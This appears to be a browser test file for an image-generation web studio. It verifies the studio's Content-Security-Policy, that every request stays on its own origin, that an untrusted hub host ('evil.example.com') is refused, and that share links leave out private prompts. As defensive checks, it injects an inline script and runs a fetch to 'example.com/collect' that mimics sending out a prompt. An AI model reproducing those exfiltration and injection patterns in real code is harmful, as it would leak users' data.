// The locked-down page (issue 18, item 5), in headless Chromium:
//  - recordRequests: every request of every page of the whole browser session (the studio tests
//    call it on each browser they launch); `originCase` asserts at the end that all of them went
//    to the studio's own origin (or were data:/blob: URLs): no third-party origin, ever;
//  - the Content-Security-Policy: sent as a header and as a <meta> in the built page, no inline
//    script in it; a normal session (load, generate, erase with UCE, share) raises no violation;
//    an injected inline script, eval and a fetch to another origin are blocked and reported;
//  - `?hub=` pointing at a host the policy does not allow: refused with a message naming it;
//  - share links: unticking "with prompts" / "with file names" leaves them out of the link.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, assert, generate, openPage, runCase, setParams, tid, visibleError, waitReady } from './lib.mjs';

/**
 * Records every request made by any page or worker of `ctx` into `into` ({ url, blocked }):
 * `blocked` when the Content-Security-Policy stopped it before it left the browser.
 */
export function recordRequests(ctx, into) {
  const byRequest = new Map();
  ctx.on('request', (r) => {
    const entry = { url: r.url(), blocked: false };
    byRequest.set(r, entry);
    into.push(entry);
  });
  ctx.on('requestfailed', (r) => {
    const entry = byRequest.get(r);
    if (entry && /BLOCKED_BY_CSP|blocked:csp/i.test(r.failure()?.errorText ?? '')) entry.blocked = true;
  });
  return into;
}

/** Records CSP violations of a page (before its scripts run) into `window.__csp`. */
async function watchViolations(page) {
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample }));
  });
}

const PARAMS = { prompt: 'a private prompt about a skull', negativePrompt: 'blurry', seed: 5, steps: 2, guidance: 7.5, size: 16, scheduler: 'euler' };

export async function securityCases({ ctx, url }) {
  await runCase('csp: header and meta, no inline script; a full session raises no violation', async () => {
    const res = await fetch(url);
    const header = res.headers.get('content-security-policy') ?? '';
    const directive = (name) => header.split('; ').find((d) => d.startsWith(`${name} `)) ?? '';
    assert(directive('script-src') === "script-src 'self' 'wasm-unsafe-eval'", `script-src: ${directive('script-src')}`);
    assert(/^connect-src 'self' https:\/\/huggingface\.co/.test(directive('connect-src')), `connect-src: ${directive('connect-src')}`);
    assert(/frame-ancestors 'none'/.test(header) && !/unsafe-inline|'unsafe-eval'/.test(header), `policy: ${header}`);
    assert(res.headers.get('referrer-policy') === 'no-referrer', 'no Referrer-Policy header');
    const html = readFileSync(join(ROOT, 'web/dist/index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
    const metaPolicy = meta ? meta[1].replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&') : '';
    assert(metaPolicy.includes("script-src 'self' 'wasm-unsafe-eval'") && !metaPolicy.includes('frame-ancestors'), `the built index.html has no CSP <meta>: ${metaPolicy}`);
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    assert(scripts.length > 0 && scripts.every((m) => /\bsrc=/.test(m[1]) && m[2].trim() === ''), `inline script in index.html: ${scripts.map((m) => m[0].slice(0, 80)).join(' | ')}`);

    const page = await ctx.newPage();
    await watchViolations(page);
    await page.goto(`${url}?model=tiny-sd1&backend=webgpu`);
    await waitReady(page);
    await setParams(page, PARAMS);
    await generate(page);
    await page.selectOption(tid('erase-method'), 'uce');
    await page.fill(tid('erase-concepts'), 'skull');
    await page.click(tid('erase-apply'));
    await page.waitForFunction(() => window.__studio.edits().length === 1 && window.__studio.ready(), null, { timeout: 120_000 });
    await generate(page);
    await page.click(tid('share'));
    const violations = await page.evaluate(() => window.__csp);
    assert(violations.length === 0, `violations in normal use: ${JSON.stringify(violations)}`);
    assert((await visibleError(page)) === null, `error: ${await visibleError(page)}`);

    // What the policy blocks: an injected inline script, eval, a connection to another origin.
    const blocked = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true';
      document.head.append(s);
      let evalBlocked = false;
      try {
        // eslint-disable-next-line no-eval
        (0, eval)('1 + 1');
      } catch (e) {
        evalBlocked = e instanceof EvalError;
      }
      let fetchBlocked = false;
      try {
        await fetch('https://example.com/collect?prompt=x');
      } catch {
        fetchBlocked = true;
      }
      await new Promise((r) => setTimeout(r, 200));
      return { injected: window.__injected === true, evalBlocked, fetchBlocked, violations: window.__csp };
    });
    assert(!blocked.injected, 'an injected inline script ran');
    // (eval inside page.evaluate runs through the DevTools protocol, which CSP does not govern:
    // the policy's lack of 'unsafe-eval' is checked on the header above.)
    assert(blocked.fetchBlocked, 'a fetch to another origin was not blocked');
    const dirs = blocked.violations.map((v) => v.directive);
    assert(dirs.includes('script-src-elem') && dirs.includes('connect-src'), `violations reported: ${JSON.stringify(blocked.violations)}`);
    assert(blocked.violations.some((v) => /example\.com/.test(v.blocked)), 'the blocked origin is not reported');
    await page.close();
    return { policy: header, blocked: dirs };
  });

  await runCase('csp: a ?hub= host the policy does not allow is refused', async () => {
    const { page } = await openPage(ctx, `${url}?model=tiny-sd1&backend=webgpu&hub=${encodeURIComponent('https://evil.example.com/hub')}`);
    await waitReady(page);
    const msg = await visibleError(page);
    assert(msg && /https:\/\/evil\.example\.com is not a host this studio may contact/.test(msg) && /STUDIO_HUB_HOSTS/.test(msg), `message: ${msg}`);
    await page.selectOption(tid('model-select'), 'hub:CompVis/stable-diffusion-v1-4');
    const about = await page.textContent('#hub-about');
    assert(/huggingface\.co/.test(about) && !/evil/.test(about), `the hub panel says ${about}`);
    await page.close();
    return { message: msg };
  });

  await runCase('share links: prompts and file names only when ticked', async () => {
    const { page } = await openPage(ctx, `${url}?model=tiny-sd1&backend=webgpu`);
    await waitReady(page);
    await setParams(page, PARAMS);
    await page.check(tid('view-grid'));
    await page.fill(tid('grid-prompts'), 'a secret grid prompt');
    await page.selectOption(tid('erase-method'), 'uce');
    await page.fill(tid('erase-concepts'), 'hidden concept');
    await page.click(tid('share'));
    const withAll = decodeURIComponent((await page.inputValue(tid('share-url'))).replace(/\+/g, ' '));
    assert(withAll.includes(PARAMS.prompt) && withAll.includes('hidden concept'), `the full link lacks the prompt: ${withAll}`);
    // The status follows the clipboard write (asynchronous): wait for it.
    const shareStatus = async (not) => {
      await page.waitForFunction((n) => {
        const t = document.querySelector('[data-testid="status"]').textContent;
        return /Share link/.test(t) && (n === null || t !== n);
      }, not, { timeout: 10_000, polling: 20 }).catch(() => {});
      return page.textContent(tid('status'));
    };
    const status1 = await shareStatus(null);
    assert(/your prompts and concepts/.test(status1) && /never an image or a file's contents/.test(status1), `status: ${status1}`);
    await page.uncheck(tid('share-prompts'));
    const without = decodeURIComponent((await page.inputValue(tid('share-url'))).replace(/\+/g, ' '));
    for (const text of [PARAMS.prompt, PARAMS.negativePrompt, 'hidden concept', 'secret grid'])
      assert(!without.includes(text), `"${text}" is in the link after unticking prompts: ${without}`);
    const address = decodeURIComponent((await page.evaluate(() => location.href)).replace(/\+/g, ' '));
    assert(!address.includes(PARAMS.prompt), 'the prompt stayed in the address bar');
    await page.click(tid('share'));
    const status2 = await shareStatus(status1);
    assert(!/prompts/.test(status2), `status: ${status2}`);
    assert(/seed=5/.test(without) && /steps=2/.test(without), `settings missing: ${without}`);
    await page.close();
    return { withAll: withAll.length, without: without.length };
  });
}

/** Every recorded request went to the studio's own origin (data: and blob: URLs are local). */
export async function originCase(url, requests) {
  await runCase('origins: every request of the session went to the studio itself', async () => {
    const own = new URL(url).origin;
    const origins = new Map();
    const blocked = requests.filter((r) => r.blocked).map((r) => r.url);
    for (const { url: r, blocked: b } of requests) {
      if (b) continue;
      const u = new URL(r);
      const o = u.protocol === 'data:' || u.protocol === 'blob:' ? u.protocol : u.origin;
      origins.set(o, (origins.get(o) ?? 0) + 1);
    }
    const foreign = [...origins.keys()].filter((o) => o !== own && o !== 'data:' && o !== 'blob:');
    assert(requests.length > 100, `only ${requests.length} requests recorded`);
    assert(foreign.length === 0, `requests to other origins: ${foreign.join(', ')} (${requests.filter((r) => !r.blocked && foreign.some((f) => r.url.startsWith(f))).map((r) => r.url).slice(0, 5).join(' ')})`);
    return { requests: requests.length, origins: Object.fromEntries(origins), blockedByCsp: blocked };
  });
}
